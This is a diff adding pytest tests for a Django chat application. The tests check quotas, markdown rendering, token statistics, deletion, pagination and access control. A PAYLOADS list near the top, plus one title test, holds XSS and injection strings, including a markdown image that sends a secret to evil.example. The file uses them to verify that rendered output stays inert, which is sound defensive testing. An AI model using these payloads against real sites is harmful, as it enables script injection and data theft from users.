@@ -1,0 +1,248 @@
+"""The pages without a model: what they show, and that it is inert."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from django.contrib.auth.models import User
+from django.test import Client
+from django.urls import reverse
+from pytest_django import DjangoAssertNumQueries
+
+from apps.chat.conversations import services
+from apps.chat.models import Conversation, Role, Status
+from apps.core.quotas import LimitReached
+from apps.servers.models import Server
+from tests.chat.conftest import told
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "[click](javascript:alert(1))",
+    "![x](http://evil.example/?q=secret)",
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<div hx-get="/chat/" hx-trigger="load">x</div>',
+]
+
+OUR_FRAGMENTS = re.compile(r"/chat/(questions/\d+/edit/form/|answers/\d+/compare/|\d+/)")
+
+
+def page(client: Client, conversation: Conversation) -> str:
+    return client.get(reverse("chat:conversation", args=[conversation.pk])).content.decode()
+
+
+def test_a_question_that_is_refused_leaves_no_conversation(
+    alice: User, browser: Client, demo_server: Server, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def full(kind: str, count: int) -> None:
+        raise LimitReached(kind, 1)
+
+    monkeypatch.setattr("apps.chat.conversations.services.limits.check", full)
+    refused = browser.post(reverse("chat:begin"), {"content": "Hello"})
+    assert refused.status_code == 429
+    assert not Conversation.objects.exists()
+
+
+def test_it_works(browser: Client, demo_server: Server) -> None:
+    html = browser.get(reverse("chat:index")).content.decode()
+    assert "What would you like to know?" in html
+    assert "You are a patient teacher. Explain step by step." in html
+    assert "This is the built-in demo model" in html
+
+
+def test_without_a_server_it_says_what_to_do(browser: Client) -> None:
+    assert "No model server is set for chat" in browser.get(reverse("chat:index")).content.decode()
+
+
+def test_another_model_is_not_the_demo(browser: Client, demo_server: Server) -> None:
+    demo_server.facts = {"models": [{"id": "qwen"}]}
+    demo_server.save()
+    assert "built-in demo" not in browser.get(reverse("chat:index")).content.decode()
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_what_is_said_is_inert(
+    alice: User, browser: Client, demo_server: Server, payload: str
+) -> None:
+    html = page(browser, told(alice, payload, payload, reasoning=payload))
+    thread = html[html.index('id="thread"') : html.index("data-composer")]
+    elements = Elements(thread)
+    assert not {"script", "img", "iframe", "object", "style", "form"} & elements.tags
+    for name, value in elements.attributes:
+        assert not name.startswith("on")
+        assert name != "hx-get" or OUR_FRAGMENTS.match(value)
+        ours = ("http://", "https://", "#", "/static/img/")
+        assert name not in {"href", "src"} or value.startswith(ours)
+
+
+class Elements(HTMLParser):
+    """What a browser would make of it."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes.extend((name, value or "") for name, value in attrs)
+
+
+def test_an_inert_title(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "Hello", "Hi")
+    title = '"><script>alert(1)</script>'
+    renamed = browser.post(reverse("chat:rename", args=[conversation.pk]), {"title": title})
+    assert b"<script>" not in renamed.content
+    assert "<script>alert" not in page(browser, conversation)
+    conversation.refresh_from_db()
+    assert conversation.title == title
+
+
+def test_markdown_and_numbers(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(
+        alice, "Hello", "A **bold** word", prompt_tokens=200, cached_tokens=150,
+        completion_tokens=84, ttft_ms=123.4, tokens_per_second=41.23,
+    )  # fmt: skip
+    html = page(browser, conversation)
+    assert "<strong>bold</strong>" in html
+    for shown in ("84 tokens", "41.2 tokens/s", "first after 123 ms", "75 % of the prompt"):
+        assert shown in html
+
+
+@pytest.mark.parametrize("cached", [0, 1])
+def test_nothing_can_come_from_the_cache_at_first(
+    alice: User, browser: Client, demo_server: Server, cached: int
+) -> None:
+    first = told(alice, "Hello", "Hi", prompt_tokens=312, cached_tokens=cached)
+    html = page(browser, first)
+    assert "312 prompt tokens, first of this conversation" in html
+    assert "of the prompt cached" not in html
+    answer = first.active_leaf
+    assert answer is not None
+    html = browser.get(reverse("chat:answer", args=[answer.pk])).content.decode()
+    assert "first of this conversation" in html
+    again = first.messages.create(
+        parent=answer.parent, role=Role.ASSISTANT, content="Hi!", prompt_tokens=312, cached_tokens=0
+    )
+    first.active_leaf = again
+    first.save()
+    assert "0 % of the prompt cached" in page(browser, first)
+    later = told(alice, "Hello", "Hi", "And?", "So", prompt_tokens=400, cached_tokens=0)
+    assert "0 % of the prompt cached" in page(browser, later)
+
+
+def test_a_failure_is_a_sentence_and_a_retry(
+    alice: User, browser: Client, demo_server: Server
+) -> None:
+    conversation = told(
+        alice, "Hello", "", status=Status.FAILED, error_code="unreachable",
+        error_detail="Nobody answers.",
+    )  # fmt: skip
+    html = page(browser, conversation)
+    assert "Nobody answers." in html
+    assert "Retry" in html
+
+
+def test_the_cut_is_shown(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "one", "two", "three", "four")
+    kept = conversation.messages.get(content="three")
+    conversation.messages.filter(content="four").update(kept_from=kept.pk, prompt_tokens=900)
+    html = page(browser, conversation)
+    assert html.index("two") < html.index("no longer fit ") < html.index("three")
+    assert "2,048 tokens" in html
+
+
+def test_siblings(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "Hello", "First answer")
+    question, first = conversation.messages.all()
+    second = conversation.messages.create(
+        parent=question, role=Role.ASSISTANT, content="Second answer"
+    )
+    assert "1/2" in page(browser, conversation)
+    shown = browser.post(reverse("chat:show", args=[second.pk])).content.decode()
+    assert "2/2" in shown
+    assert "Second answer" in shown
+    assert "First answer" not in shown
+    browser.post(reverse("chat:show", args=[first.pk]))
+    assert "First answer" in page(browser, conversation)
+
+
+def test_delete(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "Hello", "Hi")
+    response = browser.post(reverse("chat:delete", args=[conversation.pk]), follow=True)
+    assert "was deleted" in response.content.decode()
+    address = reverse("chat:conversation", args=[conversation.pk])
+    assert browser.get(address).status_code == 404
+    back = browser.post(reverse("chat:undo", args=[conversation.pk]), follow=True)
+    assert back.redirect_chain[-1][0] == address
+    assert "1 conversation back." in back.content.decode()
+
+
+def test_an_empty_question(alice: User, browser: Client, demo_server: Server) -> None:
+    conversation = told(alice, "Hello", "Hi")
+    response = browser.post(reverse("chat:ask", args=[conversation.pk]), {"content": " \n"})
+    assert response.status_code == 422
+    assert "Write something first" in response.content.decode()
+    assert conversation.messages.count() == 2
+
+
+def test_older_conversations(alice: User, browser: Client, demo_server: Server) -> None:
+    for number in range(60):
+        services.open_conversation(owner=alice, title=f"Conversation {number:02d}")
+    html = browser.get(reverse("chat:index")).content.decode()
+    assert "Conversation 59" in html
+    assert "Conversation 09" not in html
+    older = browser.get(reverse("chat:older") + "?from=50").content.decode()
+    assert "Conversation 09" in older
+    assert "Older conversations" not in older
+
+
+def test_the_number_of_queries_is_constant(
+    alice: User,
+    browser: Client,
+    demo_server: Server,
+    django_assert_num_queries: DjangoAssertNumQueries,
+) -> None:
+    conversation = told(alice, "Hello", "Hi")
+    page(browser, conversation)
+    with django_assert_num_queries(12, exact=True):
+        page(browser, conversation)
+    for _ in range(10):
+        told(alice, *["Hello", "Hi"] * 5)
+    longer = told(alice, *["Hello", "Hi"] * 20)
+    with django_assert_num_queries(12, exact=True):
+        page(browser, longer)
+
+
+def test_a_long_conversation_comes_in_parts(
+    alice: User, browser: Client, bobs_browser: Client, demo_server: Server
+) -> None:
+    conversation = told(alice, *[f"Message {n}." for n in range(150)])
+    html = page(browser, conversation)
+    assert "120 earlier messages" in html
+    assert ">Message 120.<" in html
+    assert "Message 119." not in html
+    ids = list(conversation.messages.order_by("pk").values_list("pk", flat=True))
+    address = reverse("chat:earlier", args=[conversation.pk, ids[60]])
+    before = browser.get(address).content.decode()
+    assert "30 earlier messages" in before
+    assert "Message 59." in before
+    assert "Message 60." not in before
+    first = browser.get(reverse("chat:earlier", args=[conversation.pk, ids[30]])).content.decode()
+    assert "earlier message" not in first
+    assert bobs_browser.get(address).status_code == 404
+
+
+def test_what_was_sought_is_in_the_first_part(
+    alice: User, browser: Client, demo_server: Server
+) -> None:
+    conversation = told(alice, *[f"Message {n}." for n in range(150)])
+    sought = conversation.messages.get(content="Message 20.")
+    address = reverse("chat:conversation", args=[conversation.pk])
+    html = browser.get(address, {"message": sought.pk}).content.decode()
+    assert "16 earlier messages" in html
+    assert "Message 20." in html
+    assert "Message 149." in html
